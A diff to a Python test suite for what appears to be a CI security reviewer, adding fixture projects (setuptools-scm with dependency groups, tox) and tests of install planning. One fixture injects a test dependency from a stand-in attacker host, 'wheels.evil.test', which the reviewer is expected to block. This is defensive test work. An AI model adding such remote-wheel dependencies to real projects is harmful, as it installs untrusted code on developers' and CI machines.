@@ -266,6 +266,78 @@ echo '### 12 passed' >> "$GITHUB_STEP_SUMMARY"
 echo ok
 """
 
+# --------------------------------------------------------------------------- item 8: tests
+
+# Shaped like python-attrs/attrs and pallets/itsdangerous today: the version comes from
+# git (setuptools-scm), the tests' dependencies only from a PEP 735 group.
+SCM_PYPROJECT = """\
+[build-system]
+requires = ["setuptools>=64", "setuptools-scm>=8"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "clock"
+dynamic = ["version"]
+requires-python = ">=3.9"
+
+[tool.setuptools]
+packages = ["clock"]
+
+[tool.setuptools_scm]
+
+[dependency-groups]
+tests = ["pytest", "freezegun"]
+dev = [{include-group = "tests"}]
+"""
+CLOCK = """\
+import datetime
+from importlib.metadata import version
+
+__version__ = version("clock")
+
+
+def today() -> datetime.date:
+    return datetime.date.today()
+"""
+CLOCK_TEST = """\
+import datetime
+
+from freezegun import freeze_time
+
+import clock
+
+
+def test_today_is_frozen():
+    with freeze_time("2024-02-29"):
+        assert clock.today() == datetime.date(2024, 2, 29)
+
+
+def test_the_version_comes_from_git():
+    assert clock.__version__.startswith("0.1.dev"), clock.__version__
+"""
+SCM_PROJECT = {"pyproject.toml": SCM_PYPROJECT, "clock/__init__.py": CLOCK,
+               "tests/test_clock.py": CLOCK_TEST}  # fmt: skip
+
+# tox says what the tests need, the CI workflow at base how they are run.
+TOX_INI = """\
+[tox]
+envlist = py3
+[testenv]
+deps =
+    pytest
+    freezegun
+commands = pytest -q tests {posargs}
+"""
+TOX_PROJECT = {
+    "setup.py": "from setuptools import setup\nsetup(name='clock', version='1.0', "
+    "packages=['clock'])\n",
+    "clock/__init__.py": CLOCK.replace('version("clock")', '"1.0"'),
+    "tests/test_clock.py": CLOCK_TEST.replace("0.1.dev", "1.0"),
+    "tox.ini": TOX_INI,
+    ".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
+    "    steps:\n      - run: pip install tox && tox -e py3\n",
+}
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -284,6 +356,21 @@ CASES: dict[str, Case] = {
     ),
     "persistence-everywhere": Case(scripted(), {"ci/test.sh": EVERYWHERE}),
     "ordinary-writes": Case(scripted(), {"ci/test.sh": ORDINARY_WRITES}),
+    "scm-groups": Case(SCM_PROJECT, {"clock/__init__.py": CLOCK + "\n# faster\n"}),
+    "tox-project": Case(
+        TOX_PROJECT, {"clock/__init__.py": TOX_PROJECT["clock/__init__.py"] + "#\n"}
+    ),
+    # The head adds a wheel from a host of its own to the test group: build files are read
+    # at head, so it is installed, and that is what the install is judged on.
+    "group-url": Case(
+        SCM_PROJECT,
+        {
+            "pyproject.toml": SCM_PYPROJECT.replace(
+                '"freezegun"]',
+                '"freezegun", "helper @ https://wheels.evil.test/helper-1.0-py3-none-any.whl"]',
+            )
+        },
+    ),
 }
 
 
@@ -536,3 +623,50 @@ def test_caches_identities_and_step_outputs_are_not_persistence(reviews: Reviews
     (command,) = review.report("tests")["commands"]
     assert command["stdout_tail"].strip().endswith("ok"), command
     assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 8
+
+
+def test_a_git_versioned_project_with_dependency_groups_installs_and_tests(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("scm-groups")
+    verdict = review.verdict
+    assert review.code == 0, str(review)
+    assert verdict["state"] == "clean", str(review)
+    assert verdict["findings"] == [], verdict["findings"]
+    assert "--group" not in verdict["plan"]["install"]
+    assert "freezegun" in verdict["plan"]["install"], verdict["plan"]
+    assert any("dependency group tests" in note for note in verdict["notes"]), verdict["notes"]
+    plan = json.loads((review.bundle / "plan.json").read_text())
+    assert "dependency group tests (pyproject.toml)" in plan["test_sources"]
+    # Detonation's copy has its .git: setuptools-scm found the version, the install ran.
+    detonation = review.report("detonation")
+    assert detonation["status"] == "ok", detonation["summary"]
+    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
+    assert_whole(review)
+
+
+def test_tox_says_what_the_tests_need(reviews: Reviews) -> None:
+    review = reviews.get("tox-project")
+    verdict = review.verdict
+    assert review.code == 0, str(review)
+    assert verdict["state"] == "clean", str(review)
+    assert verdict["plan"]["test"].endswith("-q tests"), verdict["plan"]
+    plan = json.loads((review.bundle / "plan.json").read_text())
+    assert plan["test_sources"] == ["tox environment [testenv] (tox.ini)"]
+    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
+    assert_whole(review)
+
+
+def test_a_test_dependency_from_a_host_of_its_own_blocks(reviews: Reviews) -> None:
+    review = reviews.get("group-url")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    assert critical_rules(review) == {"install-egress"}, review.verdict["findings"]
+    (hit,) = findings(review, "install-egress")
+    assert hit["check"] == "install"
+    assert "wheels.evil.test" in hit["title"]
+    # The install ran fully isolated; the checks after it never ran (the install failed).
+    assert review.report("install")["isolation"] == "full"
